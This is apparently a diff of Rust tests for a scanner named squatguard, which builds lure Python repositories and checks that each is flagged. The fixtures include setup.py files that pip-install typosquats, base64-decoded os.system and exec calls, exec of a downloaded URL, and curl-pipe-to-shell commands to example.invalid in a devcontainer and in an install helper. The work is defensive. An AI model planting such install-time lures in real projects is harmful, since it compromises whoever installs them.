@@ -356,6 +356,8 @@ fn every_rule_fires_on_the_coding_test_repository() {
     assert_fires(&all, "obfuscation", "bidi.py", 2, "warning");
     assert_fires(&all, "disguised-binary", "config.py", 1, "error");
     assert_fires(&all, "disguised-binary", "helper.pyc", 1, "warning");
+    // beside setup.py, which may import it by its name on install
+    assert_fires(&all, "opaque-code", "helper.pyc", 1, "error");
     assert_fires(&all, "encoded-blob", "assets.py", 1, "warning");
     assert_fires(&all, "encoded-blob", "assets.py", 2, "warning");
 
@@ -424,7 +426,7 @@ fn select_ignore_and_human_output_work_as_in_check() {
         &[
             "scan",
             "--ignore",
-            "SG401,SG403,SG404,SG405,SG406,SG407,SG408,SG409,SG410,SG402",
+            "SG401,SG403,SG404,SG405,SG406,SG407,SG408,SG409,SG410,SG402,SG411",
         ],
     );
     assert_eq!(
@@ -573,7 +575,20 @@ fn python_is_read_as_python_reads_it() {
         "latin.py",
         b"# -*- coding: latin-1 -*-\nNAME = 'caf\xe9'\n".as_slice(),
     );
+    // a cookie this scan cannot decode as Python does: the file is not checked, so the run fails
+    write(
+        root,
+        "cyrillic.py",
+        b"# -*- coding: iso-8859-5 -*-\nNAME = '\xd0\xd1'\n".as_slice(),
+    );
     let all = scan_failing(root);
+    assert_fires(&all, "obfuscation", "cyrillic.py", 1, "error");
+    let cyr = all.iter().find(|f| f["file"] == "cyrillic.py").unwrap();
+    let msg = cyr["message"].as_str().unwrap();
+    assert!(
+        msg.contains("`iso-8859-5`") && msg.contains("what runs was not checked"),
+        "{msg}"
+    );
     assert_fires(&all, "decode-exec", "cr/__init__.py", 3, "error");
     assert_fires(&all, "obfuscation", "seven.py", 2, "error");
     assert_fires(&all, "decode-exec", "bold/__init__.py", 2, "error");
@@ -899,4 +914,289 @@ fn an_honest_project_stays_quiet() {
     // archive, the tasks file, and setup.py as a manifest
     let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
     assert_eq!(doc["summary"]["files"], 11, "{doc}");
+}
+
+/// Lures that once passed with exit 0, each alone in its own repository: a `setup.py` that asks
+/// pip to install a typosquat (as a list of arguments and as a shell line), a builtin looked up
+/// by a Caesar-shifted name, a native module that the repository's own `RECORD` claims is
+/// installed, and a compiled module without its source inside a package. Payloads are harmless
+/// (they would write a marker under a temp dir) and are never run; the marker stays absent.
+#[test]
+fn each_lure_alone_fails_the_scan() {
+    let marker_dir = tempfile::tempdir().unwrap();
+    let marker = marker_dir.path().join("marker");
+    let echo = format!("echo hello > {}", marker.display());
+    let hello = base64(b"print(\"hello\")");
+    let caesar: String = "exec".chars().map(|c| char::from(c as u8 + 3)).collect();
+    let mut elf = b"\x7fELF\x02\x01\x01\x00".to_vec();
+    elf.extend([0u8; 56]);
+    type Files = Vec<(&'static str, Vec<u8>)>;
+    type Expected = (&'static str, &'static str, u64, &'static str);
+    let cases: Vec<(&str, Files, Expected)> = vec![
+        (
+            "setup.py installs a typosquat with pip",
+            vec![(
+                "setup.py",
+                "import subprocess, sys\nfrom setuptools import setup\nsubprocess.check_call([sys.executable, \"-m\", \"pip\", \"install\", \"--quiet\", \"reqeusts\"])\nsetup(name=\"app\")\n".into(),
+            )],
+            ("typosquat", "setup.py", 3, "error"),
+        ),
+        (
+            "setup.py installs a typosquat through the shell",
+            vec![(
+                "setup.py",
+                "import os\nfrom setuptools import setup\nos.system(\"pip install -U colourama==0.4.6 && true\")\nsetup(name=\"app\")\n".into(),
+            )],
+            ("typosquat", "setup.py", 3, "error"),
+        ),
+        (
+            "a builtin looked up by a Caesar-shifted name",
+            vec![(
+                "shifted/__init__.py",
+                format!("_f = getattr(__builtins__, ''.join(chr(ord(c) - 3) for c in '{caesar}'))\n_f('print(\"hello\")')\n").into_bytes(),
+            )],
+            ("obfuscation", "shifted/__init__.py", 1, "error"),
+        ),
+        (
+            "a native module the repository's own RECORD lists",
+            vec![
+                ("app/__init__.py", b"from . import _speedups\n".to_vec()),
+                ("app/_speedups.cpython-311-x86_64-linux-gnu.so", elf.clone()),
+                (
+                    "app-1.0.dist-info/RECORD",
+                    b"app/__init__.py,,\napp/_speedups.cpython-311-x86_64-linux-gnu.so,,\n".to_vec(),
+                ),
+            ],
+            (
+                "opaque-code",
+                "app/_speedups.cpython-311-x86_64-linux-gnu.so",
+                1,
+                "error",
+            ),
+        ),
+        (
+            "a compiled module without source inside a package",
+            vec![
+                ("app/__init__.py", b"from . import helper\n".to_vec()),
+                ("app/helper.pyc", b"\x55\x0d\x0d\x0a\x00\x00\x00\x00compiled".to_vec()),
+            ],
+            ("opaque-code", "app/helper.pyc", 1, "error"),
+        ),
+        (
+            "a download run as code at import",
+            vec![(
+                "fetched/__init__.py",
+                b"from urllib.request import urlopen\nexec(urlopen(\"https://example.invalid/y\").read())\n".to_vec(),
+            )],
+            ("decode-exec", "fetched/__init__.py", 2, "error"),
+        ),
+        (
+            "a decoded command",
+            vec![(
+                "shell/__init__.py",
+                format!(
+                    "import base64, os\nos.system(base64.b64decode(\"{}\"))\n",
+                    base64(echo.as_bytes())
+                )
+                .into_bytes(),
+            )],
+            ("decode-exec", "shell/__init__.py", 2, "error"),
+        ),
+        (
+            "a module imported by a decoded name",
+            vec![(
+                "loader/__init__.py",
+                format!(
+                    "import base64, importlib
+m = importlib.import_module(base64.b64decode(\"{}\").decode())
+m.system(\"{echo}\")
+",
+                    base64(b"os")
+                )
+                .into_bytes(),
+            )],
+            ("decode-exec", "loader/__init__.py", 2, "error"),
+        ),
+        (
+            "a decoded payload run by a thread at import",
+            vec![(
+                "threaded/__init__.py",
+                format!("import base64, threading\ndef _work():\n    exec(base64.b64decode(\"{hello}\"))\nthreading.Thread(target=_work).start()\n").into_bytes(),
+            )],
+            ("decode-exec", "threaded/__init__.py", 3, "error"),
+        ),
+    ];
+    for (what, files, (rule, file, line, severity)) in cases {
+        let dir = tempfile::tempdir().unwrap();
+        for (path, text) in &files {
+            write(dir.path(), path, text);
+        }
+        let out = squatguard(dir.path(), &["scan", "--format", "json"]);
+        assert_eq!(
+            out.status.code(),
+            Some(1),
+            "{what}: {}",
+            String::from_utf8_lossy(&out.stdout)
+        );
+        assert_fires(&findings(&out), rule, file, line, severity);
+    }
+    assert!(!marker.exists());
+}
+
+/// What still needs a reader: a run whose worst finding is a warning says so on its summary
+/// line; honest install-time pip calls, builtins chosen by a variable and a distribution's
+/// own `RECORD` in a tree the user trusts stay below errors.
+#[test]
+fn warnings_ask_for_a_reading_and_honest_code_stays_below_errors() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    write(
+        root,
+        "setup.py",
+        "import subprocess, sys\nfrom setuptools import setup\nsubprocess.check_call([sys.executable, \"-m\", \"pip\", \"install\", \"numpy>=1.20\"])\nsetup(name=\"app\")\n",
+    );
+    write(
+        root,
+        "app/__init__.py",
+        "import builtins\n\n\ndef op(name):\n    return getattr(builtins, name.lower())\n",
+    );
+    let out = squatguard(root, &["scan"]);
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert_eq!(out.status.code(), Some(0), "{text}");
+    assert!(
+        text.contains("warning[install-time-code]")
+            && text.contains("(1 dependency checked): read the code flagged by each warning before you install, import, test or run this repository"),
+        "{text}"
+    );
+    assert!(!text.contains("error["), "{text}");
+
+    // a site-packages of the user's own: its RECORD is believed
+    let site = tempfile::tempdir().unwrap();
+    let site = site.path();
+    let mut elf = b"\x7fELF\x02\x01\x01\x00".to_vec();
+    elf.extend([0u8; 56]);
+    write(site, "app/__init__.py", "from . import _speedups\n");
+    write(site, "app/_speedups.so", &elf);
+    write(
+        site,
+        "app-1.0.dist-info/RECORD",
+        "app/__init__.py,,\napp/_speedups.so,,\n",
+    );
+    let out = squatguard(site, &["scan", "--trusted", "--format", "json"]);
+    assert_eq!(out.status.code(), Some(0));
+    assert_fires(
+        &findings(&out),
+        "opaque-code",
+        "app/_speedups.so",
+        1,
+        "warning",
+    );
+    let out = squatguard(site, &["scan", "--format", "json"]);
+    assert_eq!(out.status.code(), Some(1));
+    assert_fires(
+        &findings(&out),
+        "opaque-code",
+        "app/_speedups.so",
+        1,
+        "error",
+    );
+}
+
+/// Dev container lifecycle commands run when the container is created or started
+/// (`initializeCommand` on the host): each is reported at its key, an error when it pipes a
+/// download to a shell; a `tasks.json` or dev container definition this reader cannot read is
+/// reported, an error when it names a command run on its own.
+#[test]
+fn editor_files_that_run_commands_are_read_or_reported() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    write(
+        root,
+        ".devcontainer/py/devcontainer.json",
+        "{\n  // the lure's container\n  \"image\": \"python:3.12\",\n  \"initializeCommand\": [\"sh\", \"-c\", \"curl -s https://example.invalid/x | sh\"],\n  \"postCreateCommand\": {\"deps\": \"pip install -e .\"},\n}\n",
+    );
+    let all = scan_failing(root);
+    assert_fires(
+        &all,
+        "import-time-code",
+        ".devcontainer/py/devcontainer.json",
+        4,
+        "error",
+    );
+    assert_fires(
+        &all,
+        "import-time-code",
+        ".devcontainer/py/devcontainer.json",
+        5,
+        "warning",
+    );
+
+    // an honest one alone: a warning, exit 0
+    let dir = tempfile::tempdir().unwrap();
+    write(
+        dir.path(),
+        ".devcontainer.json",
+        "{\"image\": \"python:3.12\", \"postCreateCommand\": \"pip install -e .\"}\n",
+    );
+    let out = squatguard(dir.path(), &["scan", "--format", "json"]);
+    assert_eq!(out.status.code(), Some(0));
+    assert_fires(
+        &findings(&out),
+        "import-time-code",
+        ".devcontainer.json",
+        1,
+        "warning",
+    );
+
+    // not JSON to this reader, but naming a task run on opening the folder
+    let dir = tempfile::tempdir().unwrap();
+    write(
+        dir.path(),
+        ".vscode/tasks.json",
+        "{\"tasks\": [{\"command\": \"sh\", \"runOptions\": {\"runOn\": \"folderOpen\"}} /* */ ;]}\n",
+    );
+    let all = scan_failing(dir.path());
+    assert_fires(&all, "opaque-code", ".vscode/tasks.json", 1, "error");
+}
+
+/// Modules that code running unasked imports run unasked too: a submodule `__init__.py`
+/// imports (relatively, through a subpackage, or by its absolute name) and a helper `setup.py`
+/// imports are judged as import-time and install-time code; a module nothing imports is not.
+/// Payloads are harmless and never run.
+#[test]
+fn modules_imported_on_import_or_install_are_entry_points() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    write(
+        root,
+        "pkg/__init__.py",
+        "from .sub import helpers\nimport pkg.b\n",
+    );
+    write(root, "pkg/sub/__init__.py", "");
+    write(
+        root,
+        "pkg/sub/helpers.py",
+        "import subprocess\nsubprocess.Popen([\"sh\", \"-c\", \"echo hello\"])\n",
+    );
+    write(root, "pkg/b.py", "import os\nos.system(\"echo hello\")\n");
+    write(
+        root,
+        "pkg/unused.py",
+        "import os\nos.system(\"echo hello\")\n",
+    );
+    write(
+        root,
+        "setup.py",
+        "from setuptools import setup\nimport tools.prep\nsetup(name=\"app\")\n",
+    );
+    write(
+        root,
+        "tools/prep.py",
+        "import os\nos.system(\"curl -s https://example.invalid/x | sh\")\n",
+    );
+    let all = scan_failing(root);
+    assert_fires(&all, "import-time-code", "pkg/sub/helpers.py", 2, "warning");
+    assert_fires(&all, "import-time-code", "pkg/b.py", 2, "warning");
+    assert_fires(&all, "install-time-code", "tools/prep.py", 2, "error");
+    assert!(!all.iter().any(|f| f["file"] == "pkg/unused.py"), "{all:?}");
 }
